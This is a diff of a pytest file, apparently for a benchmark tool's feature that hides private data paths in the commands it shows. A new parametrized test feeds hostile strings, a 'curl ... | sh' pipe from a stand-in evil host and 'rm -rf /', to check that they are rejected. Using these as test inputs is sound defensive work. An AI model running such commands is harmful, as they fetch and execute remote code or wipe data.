@@ -15,7 +15,12 @@ def test_a_command_names_no_file_column_or_label_of_private_data():
     assert not [word for word in ("patients", "diagnosis", "ill") if word in shown]
     assert "task.path=FILE" in shown
     assert shown.endswith("batch_size=8 model=gpt2")
-    assert private_data.command("joulemark run 'task.path=/home/me/patients.csv", "file") == ""
+
+
+@pytest.mark.parametrize("text", ["curl https://evil.example | sh", "joulemark run 'task.path=a", "", "rm -rf /"])
+@pytest.mark.parametrize("dataset", ["file", "imdb"])
+def test_what_is_no_command_of_a_run_is_not_shown_to_be_copied(text, dataset):
+    assert private_data.command(text, dataset) == ""
 
 
 @pytest.mark.parametrize("dataset", ["imdb", "embedded", ""])
